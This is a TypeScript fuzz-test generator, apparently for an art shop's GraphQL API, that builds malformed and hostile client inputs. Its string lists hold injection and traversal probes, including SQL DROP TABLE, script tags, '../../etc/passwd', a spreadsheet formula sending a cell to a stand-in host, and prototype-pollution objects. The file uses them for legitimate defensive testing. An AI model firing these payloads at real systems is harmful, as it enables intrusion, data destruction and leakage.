import fc from 'fast-check';
import { getNullableType, GraphQLInputType, isEnumType, isInputObjectType, isListType, isNonNullType, isScalarType } from 'graphql';

/**
 * What a hostile or careless client sends, as fast-check arbitraries. An input is built as a valid
 * one (so that it gets past the first check and reaches the service) in which a few values are then
 * spoilt: text that cannot be stored, huge or empty text, a value of the wrong type, a missing or
 * unknown field. Valid text already carries what breaks naive handling but must be stored as sent
 * (right-to-left scripts, bidi controls, combining marks, emoji sequences).
 */

/** Text the product must store as sent. */
export const STORABLE_PIECES = [
  'مرحبا بالعالم', // right-to-left scripts
  'שלום',
  '\u200e', // bidi marks, embeddings, overrides, isolates
  '\u200f',
  '\u202b',
  '\u202e',
  '\u2067',
  '\u2069',
  'e\u0301', // combining marks
  '\u0336\u0336\u0336',
  'Z\u0351\u0353\u0358\u035c\u0361\u0489',
  '\u200b', // zero width space, byte order mark, no-break space
  '\ufeff',
  '\u00a0',
  '\ud83e\udd8d', // an emoji (two UTF-16 units), a ZWJ family, a variation selector
  '\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67',
  '\u2600\ufe0f',
  '\u0085', // C1 next line, line and paragraph separators
  '\u2028',
  '\u2029',
  '\u007f',
  '\ufffd',
  '\uffff',
  "'",
  '"',
  '\\',
  '`',
  '%',
  '_',
  '%00',
  '\\u0000',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${7*7}{{7*7}}',
  "'; DROP TABLE art; --",
  '=HYPERLINK("https://x.example/?"&A2,"y")',
  '\t',
  '\r\n',
  'İ',
  'ß',
  'ﬃ',
];

/** Text PostgreSQL cannot store or that no form can type: NUL, C0 control characters, lone surrogates. */
export const UNSTORABLE_PIECES = ['\u0000', '\u0001', '\u0008', '\u000b', '\u000c', '\u001b', '\u001f', '\ud800', '\udfff', 'a\ud83e', '\udd8db'];

const storable = fc.constantFrom(...STORABLE_PIECES);
const unstorable = fc.constantFrom(...UNSTORABLE_PIECES);

/** Any UTF-16 units (lone surrogates and controls included) and any code points. */
const anyText = fc.oneof(
  fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c)), minLength: 1, maxLength: 6 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 8 }),
);

const insert = (into: string, what: string, at: number) => into.slice(0, at % (into.length + 1)) + what + into.slice(at % (into.length + 1));

/** Near the limits of the columns (100, 200, 255, 300, 1000, 5000 characters) and far beyond, in characters of one to four bytes. */
const hugeText = fc
  .tuple(fc.constantFrom('a', 'ש', '🦍', 'e\u0301', '\ufe0f', '\u0000'), fc.constantFrom(101, 201, 256, 301, 1001, 5001, 20_001, 70_000))
  .map(([p, n]) => p.repeat(n));

const emptyText = fc.constantFrom('', ' ', '\t\n ', '\u00a0', '\u200b');

/** What a field holds, guessed from its name, so that valid inputs are valid. */
export type Hint =
  'text' | 'email' | 'phone' | 'money' | 'percent' | 'url' | 'int' | 'id' | 'orderNumber' | 'visitReference' | 'editions' | 'userName' | 'path' | 'date';

export function hintFor(name: string): Hint {
  const n = name.toLowerCase();
  if (n === 'id' || n.endsWith('id') || ['artists', 'categories', 'collections', '_id'].includes(n)) return 'id';
  if (n.includes('email')) return 'email';
  if (n.includes('phone')) return 'phone';
  if (n.includes('price') || n === 'amount') return 'money';
  if (n.includes('percent')) return 'percent';
  if (['website', 'facebook', 'instagram', 'linkedin', 'x', 'referrer', 'url'].includes(n)) return 'url';
  if (['quantity', 'version', 'editionsize', 'withheld', 'page', 'pagesize', 'limit', 'days'].includes(n)) return 'int';
  if (n === 'number') return 'orderNumber';
  if (n === 'reference') return 'visitReference';
  if (n === 'editions') return 'editions';
  if (n === 'username') return 'userName';
  if (n === 'path') return 'path';
  if (n.endsWith('at')) return 'date';
  return 'text';
}

/** Real rows of the test database that inputs point at: ids by kind, order numbers, visit references. */
export interface Pools {
  ids: Record<string, string[]>;
  orderNumbers: string[];
  visitReferences: string[];
}

const ID_KINDS: Record<string, string> = {
  art: 'artwork',
  artwork: 'artwork',
  artist: 'artist',
  categorie: 'category',
  category: 'category',
  collection: 'collection',
  edition: 'edition',
};

const pick = (values: string[] | undefined) => (values?.length ? fc.constantFrom(...values) : fc.uuid());

const plainText = fc.oneof(
  fc.constantFrom('Silverback at Dawn', 'Golden Monkey', 'Acrylic on canvas', '60 x 90 cm', 'Grace Uwimana', 'Rwanda', 'Painting'),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 24 }).filter((s) => s.trim().length > 0),
);

/** A value the field accepts: text carries storable pieces that break naive handling. */
export function valid(hint: Hint, name: string, pools: Pools): fc.Arbitrary<string> {
  switch (hint) {
    case 'email':
      return fc.oneof(fc.constantFrom('grace@example.org', 'A.B+c@Example.ORG'), fc.emailAddress({ size: 'xsmall' }));
    case 'phone':
      return fc.constantFrom('+250 788 123 456', '0788123456', '(0788) 123-456');
    case 'money':
      return fc.constantFrom('95.50', '1200.00', '10');
    case 'percent':
      return fc.constantFrom('10', '0', '12.5', '100');
    case 'url':
      return fc.constantFrom('https://example.org/a', 'https://www.instagram.com/sawa', 'http://example.org/%E2%80%AE');
    case 'int':
      return fc.constantFrom('1', '2', '10');
    case 'id': {
      const kind = ID_KINDS[name.toLowerCase().replace(/id$|s$/, '')];
      return kind ? pick(pools.ids[kind]) : pick(Object.values(pools.ids).flat());
    }
    case 'orderNumber':
      return pick(pools.orderNumbers);
    case 'visitReference':
      return pick(pools.visitReferences);
    case 'editions':
      return fc.constantFrom(
        '[{"editionType":"Original Art Work","price":1200}]',
        '[{"editionType":"Original Art Work","price":1200},{"editionType":"Giclée print (A3) \u202eשלום","price":95.5,"editionSize":25}]',
      );
    case 'userName':
      return fc.constantFrom('curator', 'Curator', 'nobody');
    case 'path':
      return fc.constantFrom('/', '/shop', '/art/x', '/about');
    case 'date':
      return fc.constantFrom('2026-06-01T10:00:00+02:00', '2026-01-01T00:00:00Z');
    default:
      return fc.oneof(
        plainText,
        fc.tuple(plainText, storable, fc.nat()).map(([t, p, at]) => insert(t, p, at)),
      );
  }
}

/** Values a careless client sends for this kind of field that are just wrong (a near miss). */
function nearMiss(hint: Hint, pools: Pools): fc.Arbitrary<string> {
  switch (hint) {
    case 'email':
      return fc.constantFrom('x@y', '@', 'a@b.c', 'a@@b.org', 'grace@example.org\n', '=HYPERLINK("x")&"@a.b"', `${'a'.repeat(65)}@example.org`);
    case 'phone':
      return fc.constantFrom('+', '123', 'phone', '+250 788 123 456 ext. 5', '0'.repeat(21), '------', '123456789012345678');
    case 'money':
      return fc.constantFrom('0', '0.00', '-1', '1e3', '0.001', '99999999999999.99', '1,200', 'NaN', 'Infinity', ' 12 ', '1.2.3');
    case 'percent':
      return fc.constantFrom('101', '-1', '12.345', 'ten', '1e2', '100.01', '');
    case 'url':
      return fc.constantFrom('javascript:alert(1)', 'http://x', 'ftp://x', '//x', 'https://', `https://example.org/${'p'.repeat(600)}`);
    case 'int':
      return fc.constantFrom('0', '-1', '1.5', '1e3', '2147483648', '9007199254740993', 'abc', ' 3 ', '0x10', '');
    case 'id':
      return fc.oneof(fc.uuid(), fc.constantFrom('00000000-0000-4000-8000-000000000000', '1', 'null', '[object Object]', ' '));
    case 'orderNumber':
      return fc.constantFrom('SAWA-AAAAAAAA', 'SAWA-', '1', 'sawa-' + (pools.orderNumbers[0] ?? '').slice(5).toLowerCase());
    case 'visitReference':
      return fc.constantFrom('VISIT-AAAAAAAA', 'VISIT-', 'visit');
    case 'editions':
      return fc.oneof(
        fc.constantFrom(
          '[]',
          '[{}]',
          '{"editionType":"x"}',
          '[{"editionType":"Original Art Work","price":-1}]',
          '[{"editionType":"Original Art Work","price":1e400}]',
          '[{"editionType":"Original Art Work","price":"12.345"}]',
          `[${'['.repeat(200)}${']'.repeat(200)}]`,
          '[{"editionType":"x","price":1,"__proto__":{"admin":true}}]',
          '[{"editionType":"\\u0000","price":1}]',
          'not json',
          'null',
        ),
        fc
          .array(
            fc.record({ editionType: fc.oneof(fc.constant('Original Art Work'), anyText), price: fc.oneof(fc.double(), fc.constantFrom('95.50', 1200)) }),
            { maxLength: 14 },
          )
          .map((rows) => JSON.stringify(rows)),
      );
    case 'date':
      return fc.constantFrom('2026-13-45', 'yesterday', '1e20', '0000-00-00T00:00:00Z');
    default:
      return fc.constantFrom('null', 'undefined', '[object Object]', '0');
  }
}

/** Text that must be refused or handled, never a server fault: unstorable, huge, empty, arbitrary units, a near miss. */
export function spoiltText(hint: Hint, name: string, pools: Pools): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 3, arbitrary: fc.tuple(valid(hint, name, pools), unstorable, fc.nat()).map(([t, p, at]) => insert(t, p, at)) },
    { weight: 2, arbitrary: nearMiss(hint, pools) },
    { weight: 2, arbitrary: anyText },
    { weight: 1, arbitrary: hugeText },
    { weight: 1, arbitrary: emptyText },
  );
}

/** Nested `depth` levels deep (the validation gate refuses more than 32). */
const nested = (depth: number): unknown => (depth === 0 ? 'x' : { a: nested(depth - 1) });

/** A value of another type than the field expects. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant([]),
  fc.constant({}),
  fc.array(fc.string({ maxLength: 3 }), { minLength: 1, maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 4 }), fc.oneof(fc.string({ maxLength: 4 }), fc.integer()), { minKeys: 1, maxKeys: 3 }),
  fc.constantFrom(-0, 2 ** 53 + 1, 1e300, -1e300, 2 ** 31, -(2 ** 31) - 1),
  fc.constant(nested(40)),
  fc.constant(JSON.parse('{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":1}}}')),
  fc.constant({ '\u0000': 'x', '\ud800': 1 }),
);

/** Fields left as they are, spoilt, dropped, or added: how many and which are picked by the caller. */
export type Spoil = 'text' | 'wrongType' | 'drop';

/**
 * A valid record of `fields` with `min` to `max` of them spoilt (spoilt text, a wrong type, or left
 * out), and, when `extra`, a field nobody declared.
 */
export function spoiltRecord(
  fields: string[],
  validOf: (field: string) => fc.Arbitrary<unknown>,
  spoiltOf: (field: string, how: Spoil) => fc.Arbitrary<unknown>,
  { min = 1, max = 2, extra = false }: { min?: number; max?: number; extra?: boolean } = {},
): fc.Arbitrary<Record<string, unknown>> {
  const base = fc.record(Object.fromEntries(fields.map((f) => [f, validOf(f)])));
  const added = extra ? fc.constantFrom('unknownField', '__proto__', 'constructor') : fc.constant(null);
  if (fields.length === 0) return fc.tuple(base, added).map(([record, key]) => (key ? { ...record, [key]: 'x' } : record));
  const change = fc.record({ field: fc.constantFrom(...fields), how: fc.constantFrom<Spoil>('text', 'text', 'wrongType', 'drop') });
  return fc.tuple(base, fc.array(change, { minLength: Math.min(min, max), maxLength: max }), added).chain(([record, changes, extra]) =>
    fc.tuple(...changes.map((c) => (c.how === 'drop' ? fc.constant(undefined) : spoiltOf(c.field, c.how))), fc.constant(0)).map((values) => {
      const out: Record<string, unknown> = { ...record };
      changes.forEach((c, i) => (c.how === 'drop' ? delete out[c.field] : (out[c.field] = values[i])));
      if (extra) Object.defineProperty(out, extra, { value: 'x', enumerable: true, writable: true, configurable: true });
      for (const key of Object.keys(out)) if (out[key] === undefined) delete out[key];
      return out;
    }),
  );
}

/** A file a client attaches: a real small image, or bytes that only claim to be one. */
export interface FuzzFile {
  readonly fuzzFile: true;
  name: string;
  contentType: string;
  bytes: Buffer;
}

export const isFuzzFile = (value: unknown): value is FuzzFile => typeof value === 'object' && value !== null && (value as FuzzFile).fuzzFile === true;

export function files(images: Buffer[]): fc.Arbitrary<FuzzFile> {
  const bytes = fc.oneof(
    { weight: 4, arbitrary: fc.constantFrom(...images) },
    { weight: 1, arbitrary: fc.constantFrom(...images).map((b) => b.subarray(0, Math.floor(b.length / 2))) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(Buffer.alloc(0), Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), Buffer.from('%PDF-1.4\n')),
    },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 2048 }).map((a) => Buffer.from(a)) },
  );
  return fc.record({
    fuzzFile: fc.constant(true as const),
    name: fc.oneof(fc.constantFrom('a.png', 'photo.jpg', 'x.svg', '', '../../a.png', 'a\u202egnp.exe', 'a\u0000.png'), fc.string({ maxLength: 12 })),
    contentType: fc.constantFrom('image/png', 'image/jpeg', 'application/octet-stream', 'text/html', 'image/svg+xml'),
    bytes,
  });
}

/** GraphQL input values for the schema's types: valid ones, and spoilt ones of the same place. */
export class GraphqlValues {
  constructor(
    private readonly pools: Pools,
    private readonly upload: fc.Arbitrary<FuzzFile>,
  ) {}

  /** A value the type accepts (a nullable one may be null or left out: undefined). */
  valid(type: GraphQLInputType, name: string): fc.Arbitrary<unknown> {
    const inner: GraphQLInputType = getNullableType(type);
    if (isNonNullType(type)) return this.validInner(inner, name);
    return fc.oneof({ weight: 4, arbitrary: this.validInner(inner, name) }, fc.constant(undefined), fc.constant(null));
  }

  private validInner(type: GraphQLInputType, name: string): fc.Arbitrary<unknown> {
    if (isListType(type)) return fc.array(this.valid(type.ofType, name), { minLength: 1, maxLength: 3 });
    if (isEnumType(type)) return fc.constantFrom(...type.getValues().map((v) => v.value as string));
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields());
      return fc.record(Object.fromEntries(fields.map((f) => [f.name, this.valid(f.type, f.name)]))).map(withoutUndefined);
    }
    if (!isScalarType(type)) throw new Error(`No generator for the GraphQL input type ${String(type)}`);
    switch (type.name) {
      case 'String':
        return valid(hintFor(name), name, this.pools);
      case 'ID':
        return valid(hintFor(name) === 'text' ? 'id' : hintFor(name), name, this.pools);
      case 'Int':
        return name === 'editionSize' ? fc.constantFrom(5, 25, 10_000) : fc.integer({ min: 1, max: 10 });
      case 'Float':
        return fc.double({ noNaN: true, min: 0, max: 1e6 });
      case 'Boolean':
        return fc.boolean();
      case 'Decimal':
        return valid(hintFor(name) === 'percent' ? 'percent' : 'money', name, this.pools);
      case 'DateTime':
        return valid('date', name, this.pools);
      case 'Upload':
        return this.upload;
      default:
        throw new Error(`No generator for the GraphQL scalar ${type.name}: add one to hostile-inputs.ts`);
    }
  }

  /** A spoilt value in the place of this type: null where it is required, a wrong type, spoilt text, a spoilt field inside. */
  spoilt(type: GraphQLInputType, name: string): fc.Arbitrary<unknown> {
    const inner: GraphQLInputType = getNullableType(type);
    const options: fc.Arbitrary<unknown>[] = [wrongType, this.spoiltInner(inner, name), this.spoiltInner(inner, name)];
    if (isNonNullType(type)) options.push(fc.constant(null));
    return fc.oneof(...options);
  }

  private spoiltInner(type: GraphQLInputType, name: string): fc.Arbitrary<unknown> {
    if (isListType(type))
      return fc.oneof(
        fc.tuple(fc.array(this.valid(type.ofType, name), { maxLength: 2 }), this.spoilt(type.ofType, name)).map(([items, bad]) => [...items, bad]),
        fc.array(this.valid(type.ofType, name), { minLength: 11, maxLength: 60 }),
        fc.constant([]),
      );
    if (isEnumType(type)) return spoiltText('text', name, this.pools);
    if (isInputObjectType(type)) {
      const fields = Object.values(type.getFields());
      const byName = Object.fromEntries(fields.map((f) => [f.name, f.type]));
      return spoiltRecord(
        fields.map((f) => f.name),
        (f) => this.valid(byName[f], f),
        (f, how) => (how === 'text' ? this.spoilt(byName[f], f) : wrongType),
        { max: 1 },
      ).map(withoutUndefined);
    }
    if (!isScalarType(type)) throw new Error(`No generator for the GraphQL input type ${String(type)}`);
    switch (type.name) {
      case 'String':
      case 'ID':
      case 'Decimal':
      case 'DateTime':
        return spoiltText(
          type.name === 'Decimal' && hintFor(name) !== 'percent' ? 'money' : type.name === 'DateTime' ? 'date' : hintFor(name),
          name,
          this.pools,
        );
      case 'Int':
        return fc.constantFrom(0, -1, 101, 501, 2 ** 31 - 1, -(2 ** 31), 2 ** 31, 1.5);
      case 'Float':
        return fc.constantFrom(-1, 1e308, -0);
      case 'Upload':
        return fc.oneof(fc.constant('a.png'), fc.constant({ path: '/etc/passwd' }));
      default:
        return wrongType;
    }
  }
}

const withoutUndefined = (value: Record<string, unknown>) => Object.fromEntries(Object.entries(value).filter(([, v]) => v !== undefined));

/** A GraphQL literal for a value (for arguments written into the query instead of variables). */
export function graphqlLiteral(value: unknown, isEnum = false): string {
  if (value === null || value === undefined) return 'null';
  if (typeof value === 'string') return isEnum && /^[_A-Za-z][_0-9A-Za-z]*$/.test(value) ? value : JSON.stringify(value);
  if (typeof value === 'number') return Number.isFinite(value) ? String(value) : '1e999';
  if (typeof value === 'boolean') return String(value);
  if (Array.isArray(value)) return `[${value.map((v) => graphqlLiteral(v)).join(', ')}]`;
  return `{${Object.entries(value)
    .filter(([k]) => /^[_A-Za-z][_0-9A-Za-z]*$/.test(k))
    .map(([k, v]) => `${k}: ${graphqlLiteral(v)}`)
    .join(', ')}}`;
}

export interface Part {
  name: string;
  value: string | Buffer;
  filename?: string;
  contentType?: string;
}

/** A multipart/form-data body, by the book. */
export function multipartBody(parts: Part[], boundary: string): Buffer {
  const chunks: Buffer[] = [];
  for (const part of parts) {
    const disposition = `form-data; name="${part.name.replace(/"/g, '%22')}"${part.filename === undefined ? '' : `; filename="${part.filename.replace(/"/g, '%22')}"`}`;
    const head = `--${boundary}\r\nContent-Disposition: ${disposition}\r\n${part.contentType ? `Content-Type: ${part.contentType}\r\n` : ''}\r\n`;
    chunks.push(Buffer.from(head, 'utf8'), Buffer.isBuffer(part.value) ? part.value : Buffer.from(part.value, 'utf8'), Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return Buffer.concat(chunks);
}

/** Ways a multipart body goes wrong on the wire. */
export const MULTIPART_DEFECTS = [
  'truncated',
  'no-closing-boundary',
  'other-boundary',
  'no-boundary',
  'lf-only',
  'no-name',
  'huge-part-header',
  'garbage',
] as const;
export type MultipartDefect = (typeof MULTIPART_DEFECTS)[number];

/** A broken multipart body and the content type it is sent with. */
export function brokenMultipart(parts: Part[], defect: MultipartDefect, cut: number): { body: Buffer; contentType: string } {
  const boundary = 'fuzzBoundary7MA4YWxkTrZu0gW';
  const good = multipartBody(parts, boundary);
  const type = `multipart/form-data; boundary=${boundary}`;
  switch (defect) {
    case 'truncated':
      return { body: good.subarray(0, cut % Math.max(good.length, 1)), contentType: type };
    case 'no-closing-boundary':
      return { body: good.subarray(0, good.length - `--${boundary}--\r\n`.length), contentType: type };
    case 'other-boundary':
      return { body: good, contentType: 'multipart/form-data; boundary=somethingElse' };
    case 'no-boundary':
      return { body: good, contentType: 'multipart/form-data' };
    case 'lf-only':
      return { body: Buffer.from(good.toString('latin1').replace(/\r\n/g, '\n'), 'latin1'), contentType: type };
    case 'no-name':
      return { body: Buffer.from(good.toString('latin1').replace(/; name="[^"]*"/g, ''), 'latin1'), contentType: type };
    case 'huge-part-header':
      return {
        body: Buffer.concat([Buffer.from(`--${boundary}\r\nX-Filler: ${'x'.repeat(100_000)}\r\n`), good.subarray(`--${boundary}\r\n`.length)]),
        contentType: type,
      };
    case 'garbage':
      return { body: Buffer.from(`--${boundary}\r\n\u0000\u0001garbage`), contentType: type };
  }
}
